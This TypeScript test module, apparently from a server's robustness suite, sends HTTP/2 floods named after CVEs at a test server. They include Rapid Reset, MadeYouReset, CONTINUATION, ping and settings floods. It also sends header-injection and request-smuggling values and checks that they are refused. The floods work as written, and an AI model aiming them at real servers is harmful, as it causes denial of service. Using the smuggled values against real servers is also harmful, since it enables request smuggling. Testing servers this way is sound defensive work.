/** HTTP/2 in frames of its own: resets, floods and heads that never end (RFC 9113). */
import { Buffer } from "node:buffer";
import { setTimeout as delay } from "node:timers/promises";
import type { Instance } from "../server/instance.ts";
import type { RawClient } from "../../runtime/raw_client.ts";
import { connectTo, type Part, repeat, write } from "./many.ts";

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const [DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION] = [
  0,
  1,
  3,
  4,
  6,
  8,
  9,
];
const [END_STREAM, END_HEADERS] = [1, 4];
const DEADLINE_MS = 60_000;
const GET_OPEN = head(":method: GET", ":scheme: http", ":path: /open", ":authority: x");
const POST_TEXT = head(":method: POST", ":scheme: http", ":path: /input/text", ":authority: x");

/** Streams that are reset as soon as they are open (CVE-2023-44487). */
export const rapidReset: Part = flood((stream) =>
  Buffer.concat([
    frame(HEADERS, { flags: END_HEADERS | END_STREAM, stream, payload: GET_OPEN }),
    frame(RST_STREAM, { stream, payload: "\0\0\0\x08" }),
  ])
);

/** Bodies that are reset while a handler reads them. */
export const resetBodies: Part = flood((stream) =>
  Buffer.concat([
    frame(HEADERS, { flags: END_HEADERS, stream, payload: POST_TEXT }),
    frame(DATA, { stream, payload: "x".repeat(1_000) }),
    frame(RST_STREAM, { stream, payload: "\0\0\0\x08" }),
  ])
);

/** Invalid windows, for which the server resets streams itself (CVE-2025-8671). */
export const madeYouReset: Part = flood((stream) =>
  Buffer.concat([
    frame(HEADERS, { flags: END_HEADERS | END_STREAM, stream, payload: GET_OPEN }),
    frame(WINDOW_UPDATE, { stream, payload: "\0\0\0\0" }),
  ])
);

/** Heads that never end (CVE-2024-27316). */
export const continuations: Part = flood(
  () => frame(CONTINUATION, { stream: 1, payload: head(`x: ${"a".repeat(10_000)}`) }),
  () => frame(HEADERS, { stream: 1, payload: GET_OPEN }),
);

/** Heads that never end, of empty frames. */
export const emptyContinuations: Part = flood(
  () => frame(CONTINUATION, { stream: 1, payload: "" }),
  () => frame(HEADERS, { stream: 1, payload: GET_OPEN }),
);

/** Pings whose answers are not read (CVE-2019-9512). */
export const pings: Part = flood(() => frame(PING, { payload: "12345678" }), undefined, true);

/** Settings whose acknowledgements are not read (CVE-2019-9515). */
export const settings: Part = flood(() => frame(SETTINGS, { payload: "" }), undefined, true);

/** Frames without content (CVE-2019-9518). */
export const emptyData: Part = flood(
  () => frame(DATA, { stream: 1, payload: "" }),
  () => frame(HEADERS, { flags: END_HEADERS, stream: 1, payload: POST_TEXT }),
);

/** A client that reads no answer of any of its streams (CVE-2019-9517). */
export const noWindow: Part = flood(
  (stream) => frame(HEADERS, { flags: END_HEADERS | END_STREAM, stream, payload: GET_OPEN }),
  () => frame(SETTINGS, { payload: "\0\x04\0\0\0\0" }),
);

/** Heads that are invalid: RFC 9113 §8. Each is refused, and none is read as something else. */
export const invalidHeads: Part = async ({ instance, isQuick }) => {
  const normal = [":method: GET", ":scheme: http", ":path: /open", ":authority: x"];
  const rows: Readonly<Record<string, readonly string[]>> = {
    "a line break in a value": [...normal, "x: a\r\nb: c"],
    "a request in a value": [...normal, "x: a\r\n\r\nGET /smuggled/h2 HTTP/1.1\r\n\r\n"],
    "a line break in a name": [...normal, "x\r\ny: a"],
    "upper case in a name": [...normal, "X: a"],
    "a null in a value": [...normal, "x: a\0b"],
    "Transfer-Encoding": [...normal, "transfer-encoding: chunked"],
    "Connection": [...normal, "connection: close"],
    "a length without a body": [...normal, "content-length: 5"],
    "a second path": [...normal, ":path: /admin"],
    "a path after a field": [":method: GET", ":scheme: http", "x: y", ":path: /open"],
    "no path": [":method: GET", ":scheme: http", ":authority: x"],
    "an empty path": [":method: GET", ":scheme: http", ":path: ", ":authority: x"],
    "a path without a slash": [":method: GET", ":scheme: http", ":path: open", ":authority: x"],
    "a space in a path": [":method: GET", ":scheme: http", ":path: /open /x", ":authority: x"],
    "no method": [":scheme: http", ":path: /open", ":authority: x"],
    "a method of two words": [":method: GET /open", ":scheme: http", ":path: /", ":authority: x"],
    "CONNECT": [":method: CONNECT", ":authority: x:443"],
    "a CONNECT with a protocol": [
      ":method: CONNECT",
      ":protocol: websocket",
      ":scheme: http",
      ":path: /socket/echo",
      ":authority: x",
    ],
    "another host": [...normal, "host: y"],
    "a user in the authority": [...normal.slice(0, 3), ":authority: u@x"],
    "a path in the authority": [...normal.slice(0, 3), ":authority: x/admin"],
    "an unknown pseudo-header": [...normal, ":x: y"],
  };
  const all = Array(isQuick ? 1 : 20).fill(Object.entries(rows)).flat() as [string, string[]][];
  const failures = await repeat({ count: all.length, atOnce: 8 }, async (n) => {
    const [what, lines] = all[n] ?? ["", []];
    using client = await open(instance);
    const payload = head(...lines);
    const flags = END_HEADERS | END_STREAM;
    await write(client, frame(HEADERS, { flags, stream: 1, payload }));
    const end = performance.now() + DEADLINE_MS;
    const answer = () => answerOf(client.received);
    while (answer() === undefined && !client.isClosed && performance.now() < end) await delay(5);
    const found = answer() ?? (client.isClosed ? "closed" : "nothing");
    const isRefused = ["closed", "reset", "goaway", 400, 404, 405, 501].includes(found);
    // Deno reads both as the path and the authority that they seem to mean
    const isHarmless = found === 200 &&
      ["another host", "a path without a slash"].includes(what);
    return isRefused || isHarmless ? undefined : `${what}: ${found}`;
  });
  return { injected: all.length, failures };
};

const FRAMES_OF_BATCH = 500;

/** Writes frames until there are enough, or the server ends the connection. */
function flood(
  next: (stream: number) => Buffer,
  first: () => Buffer = () => Buffer.alloc(0),
  isDeaf = false,
): Part {
  return async ({ instance, isQuick }) => {
    const [connections, batches] = isQuick ? [2, 4] : [10, 200];
    const batchAt = (at: number) => {
      const start = at * FRAMES_OF_BATCH;
      const frames = Array.from({ length: FRAMES_OF_BATCH }, (_, n) => next(2 * (start + n) + 1));
      return Buffer.concat(frames);
    };
    const made: Buffer[] = []; // once for all connections: this process answers a good client too
    let sent = 0;
    await repeat({ count: connections, atOnce: connections }, async () => {
      using client = await open(instance);
      client.socket.removeAllListeners("data");
      if (isDeaf) client.socket.pause();
      else client.socket.resume();
      await write(client, first());
      const end = performance.now() + DEADLINE_MS;
      for (let at = 0; at < batches && !client.isClosed && performance.now() < end; at++) {
        const stop = new AbortController();
        const late = delay(2_000, undefined, stop).catch(() => {});
        await Promise.race([write(client, made[at] ??= batchAt(at)), late]);
        stop.abort();
        await delay(1);
        sent += FRAMES_OF_BATCH;
      }
      return undefined;
    });
    return { injected: sent, failures: [] };
  };
}

async function open(instance: Instance): Promise<RawClient> {
  const client = await connectTo(instance);
  await write(client, Buffer.concat([PREFACE, frame(SETTINGS, { payload: "" })]));
  return client;
}

/** Finds what a server answers on the first stream. */
function answerOf(received: string): number | "reset" | "goaway" | undefined {
  const bytes = Buffer.from(received, "latin1");
  for (let at = 0; at + 9 <= bytes.length;) {
    const length = bytes.readUIntBE(at, 3);
    const type = bytes[at + 3];
    const payload = bytes.subarray(at + 9, at + 9 + length);
    if (type === RST_STREAM) return "reset";
    if (type === 7) return "goaway";
    if (type === HEADERS) return statusOf(payload);
    at += 9 + length;
  }
  return undefined;
}

/** Reads `:status` where it comes first: from the static table, or a literal (RFC 7541). */
function statusOf(payload: Uint8Array): number {
  const indexed: Readonly<Record<number, number>> = {
    0x88: 200,
    0x89: 204,
    0x8a: 206,
    0x8b: 304,
    0x8c: 400,
    0x8d: 404,
    0x8e: 500,
  };
  const [first = 0, length = 0] = payload;
  const known = indexed[first];
  if (known !== undefined) return known;
  const text = payload.subarray(2, 2 + (length & 0x7f));
  return length & 0x80 ? unpacked(text) : Number(Buffer.from(text).toString("latin1"));
}

/** Decodes digits of Huffman's code of RFC 7541, which statuses have. */
function unpacked(bytes: Uint8Array): number {
  const codes: Readonly<Record<string, string>> = {
    "00000": "0",
    "00001": "1",
    "00010": "2",
    "011001": "3",
    "011010": "4",
    "011011": "5",
    "011100": "6",
    "011101": "7",
    "011110": "8",
    "011111": "9",
  };
  const bits = Array.from(bytes, (byte) => byte.toString(2).padStart(8, "0")).join("");
  let [digits, code] = ["", ""];
  for (const bit of bits) {
    code += bit;
    const digit = codes[code];
    if (digit === undefined) continue;
    digits += digit;
    code = "";
  }
  return Number(digits);
}

interface Frame {
  readonly flags?: number;
  readonly stream?: number;
  readonly payload: string;
}

function frame(type: number | undefined, { flags = 0, stream = 0, payload }: Frame): Buffer {
  const start = Buffer.alloc(9);
  start.writeUIntBE(payload.length, 0, 3);
  start.writeUInt8(type ?? 0, 3);
  start.writeUInt8(flags, 4);
  start.writeUInt32BE(stream, 5);
  return Buffer.concat([start, Buffer.from(payload, "latin1")]);
}

/** Encodes fields as literals that are not indexed (RFC 7541 §6.2.2). */
function head(...lines: readonly string[]): string {
  return lines.map((line) => {
    const at = line.indexOf(": ");
    return `\0${text(line.slice(0, at))}${text(line.slice(at + 2))}`;
  }).join("");
}

function text(value: string): string {
  const bytes = value.length < 127 ? [value.length] : [127];
  for (let rest = value.length - 127; rest >= 0; rest = rest > 127 ? rest >> 7 : -1) {
    bytes.push(rest > 127 ? rest & 127 | 128 : rest);
  }
  return String.fromCharCode(...bytes) + value;
}
